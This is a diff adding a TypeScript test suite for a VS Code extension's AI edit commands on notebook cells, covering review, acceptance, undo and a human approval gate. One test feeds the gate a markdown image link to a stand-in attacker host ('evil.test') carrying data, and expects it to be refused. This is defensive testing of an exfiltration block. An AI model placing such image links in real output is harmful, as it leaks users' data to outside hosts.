@@ -1,0 +1,152 @@
+import assert from 'node:assert/strict';
+import * as vscode from 'vscode';
+import { systemClock } from '../../src/core/support/clock.ts';
+import { PersonGate } from '../../src/host/approval/personGate.ts';
+import { EditCommands } from '../../src/host/code/editCommands.ts';
+import type { GeneratedText, GenerationRequest } from '../../src/host/code/textGenerator.ts';
+import { thisMachine } from '../../src/host/node/thisMachine.ts';
+import type { DecidedEdit } from '../../src/host/review/fileReview.ts';
+import { FileReviews } from '../../src/host/review/fileReviews.ts';
+import { OpenReviews } from '../../src/host/review/openReviews.ts';
+import { until } from '../support/until.ts';
+import { analysis, outputsOf, putNotebook, showNotebook, sourcesOf } from './support/notebooks.ts';
+
+/** A model that gives one reply. */
+class OneReply {
+  readonly requests: GenerationRequest[] = [];
+  text = '';
+
+  generate(request: GenerationRequest): Promise<GeneratedText> {
+    this.requests.push(request);
+    request.onText(this.text);
+    return Promise.resolve({ text: this.text, end: 'finished' });
+  }
+
+  get prompt(): string {
+    return this.requests
+      .flatMap(({ messages }) => messages.map(({ content }) => content))
+      .join('\n');
+  }
+}
+
+describe('commands on code in cells', () => {
+  let reviews: OpenReviews;
+  let model: OneReply;
+  let commands: EditCommands;
+  let passed: DecidedEdit[];
+
+  beforeEach(() => {
+    passed = [];
+    reviews = new OpenReviews();
+    model = new OneReply();
+    const gate = async (edit: DecidedEdit, effect: () => Promise<void>): Promise<boolean> => {
+      passed.push(edit);
+      await effect();
+      return true;
+    };
+    commands = new EditCommands({
+      reviews: new FileReviews({ reviews, gate, clock: systemClock }),
+      generator: model,
+      maySend: () => Promise.resolve(true),
+      requireModel: () => Promise.resolve('some/model'),
+      instructions: () => '',
+      askInstruction: () => Promise.resolve('Make it absolute'),
+      askInChat: () => Promise.resolve(),
+    });
+  });
+
+  afterEach(async () => {
+    reviews.dispose();
+    await vscode.commands.executeCommand('workbench.action.files.saveAll');
+    await vscode.commands.executeCommand('workbench.action.closeAllEditors');
+  });
+
+  it('change the selected cell, once accepted, and undo brings it back', async () => {
+    const notebook = await showNotebook(await putNotebook(analysis), 2);
+    model.text = '```python\nprint(abs(high - low))\n```';
+    await commands.run('improve', undefined);
+    assert.deepEqual(sourcesOf(notebook)[2], 'print(high - low)', 'Nothing changes before that.');
+    assert.match(model.prompt, /%% cell 2 code python\nhigh = 9\nlow = 4\n%% cell 3 code python/);
+    assert.match(model.prompt, /notebooks\/\d+\.ipynb, cell 3/);
+    assert.doesNotMatch(model.prompt, /iVBOR/);
+    await reviews.decide('accept');
+    assert.deepEqual(sourcesOf(notebook), [
+      '# Readings\nof one day',
+      'high = 9\nlow = 4',
+      'print(abs(high - low))',
+    ]);
+    assert.deepEqual(outputsOf(notebook), [0, 1, 1]);
+    assert.equal(passed.length, 1);
+    await until(() => vscode.window.activeNotebookEditor?.notebook === notebook);
+    await vscode.commands.executeCommand('notebook.cell.edit');
+    await vscode.commands.executeCommand('undo');
+    await until(() => sourcesOf(notebook)[2] === 'print(high - low)');
+    assert.deepEqual(outputsOf(notebook), [0, 1, 1]);
+  });
+
+  it('leave the cell as it is where the change is rejected', async () => {
+    const notebook = await showNotebook(await putNotebook(analysis), 1);
+    model.text = '```python\nhigh = 10\nlow = 4\n```';
+    await commands.run('improve', undefined);
+    await reviews.decide('reject');
+    assert.equal(sourcesOf(notebook)[1], 'high = 9\nlow = 4');
+    assert.equal(notebook.isDirty, false);
+    assert.deepEqual(passed, []);
+  });
+
+  it('change the cell whose menu it is, or the lines of an argument', async () => {
+    const notebook = await showNotebook(await putNotebook(analysis), 0);
+    model.text = '```python\nhigh = 10\nlow = 4\n```';
+    await commands.run('improve', notebook.cellAt(1));
+    await reviews.decide('accept');
+    assert.equal(sourcesOf(notebook)[1], 'high = 10\nlow = 4');
+    model.text = '```python\nlow = 5\n```';
+    const { uri } = notebook.cellAt(1).document;
+    await commands.run('edit', { uri, range: new vscode.Range(1, 0, 1, 7), instruction: 'More' });
+    await reviews.decide('accept');
+    assert.equal(sourcesOf(notebook)[1], 'high = 10\nlow = 5');
+    assert.deepEqual(outputsOf(notebook), [0, 1, 1]);
+  });
+
+  it('pass the gate as a change of the file of the notebook', async () => {
+    const { showWarningMessage } = vscode.window;
+    const asked: string[] = [];
+    Object.assign(vscode.window, {
+      showWarningMessage: (message: string) => {
+        asked.push(message);
+        return Promise.resolve(undefined);
+      },
+    });
+    let time = 0;
+    const gate = new PersonGate({
+      context: {
+        globalStorageUri: vscode.Uri.file('/user/User/globalStorage/aside-chat.aside'),
+        logUri: vscode.Uri.file('/user/logs'),
+        storageUri: undefined,
+      },
+      machine: thisMachine(),
+      // Each look at the clock is a second later: no answer is too early.
+      clock: { ...systemClock, monotonic: () => (time += 1000) },
+      diff: { show: () => Promise.resolve(), close: () => Promise.resolve() },
+      documents: { show: () => assert.fail('Nothing is too long.') },
+      onError: (error) => assert.fail(String(error)),
+    });
+    const pass = async (cell: vscode.NotebookCell, after: string): Promise<boolean> => {
+      const before = cell.document.getText();
+      const edit = { uri: cell.document.uri, before, after, isCurrent: () => true };
+      return gate.pass(edit, () => Promise.resolve());
+    };
+    try {
+      const plain = (await showNotebook(await putNotebook(analysis), 1)).cellAt(1);
+      assert.equal(await pass(plain, 'high = 1'), true);
+      assert.deepEqual(asked, []);
+      const notebook = await showNotebook(await putNotebook(analysis, '.vscode'), 0);
+      assert.equal(await pass(notebook.cellAt(1), 'high = 1'), false);
+      assert.equal(asked.length, 1);
+      assert.equal(await pass(plain.notebook.cellAt(0), '![](https://evil.test/?data)'), false);
+      assert.equal(asked.length, 2);
+    } finally {
+      Object.assign(vscode.window, { showWarningMessage });
+    }
+  });
+});
